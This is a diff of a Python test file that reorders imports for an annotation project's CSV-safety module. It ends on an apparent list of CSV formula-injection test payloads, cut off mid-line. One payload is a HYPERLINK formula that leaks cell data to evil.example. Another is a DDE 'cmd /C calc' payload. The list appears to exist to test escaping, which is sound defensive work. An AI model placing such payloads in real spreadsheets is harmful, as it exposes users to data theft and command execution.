@@ -9,16 +9,16 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from annotation.core.csv_safety import SafeDictWriter, SafeWriter, safe_cell, unescape_cell
-from annotation.dataset_formats import (
+from annotation.content.formats import (
     ImageRef,
     VisitDataset,
     VisitRecord,
     parse_visit_csv,
     write_visit_csv,
 )
+from annotation.core.csv_safety import SafeDictWriter, SafeWriter, safe_cell, unescape_cell
+from annotation.engine.services.batches import rows_from_upload
 from annotation.pipeline.report import table2, table2_csv
-from annotation.services.batches import rows_from_upload
 
 ROOT = Path(__file__).resolve().parents[2]
 ATTACKS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
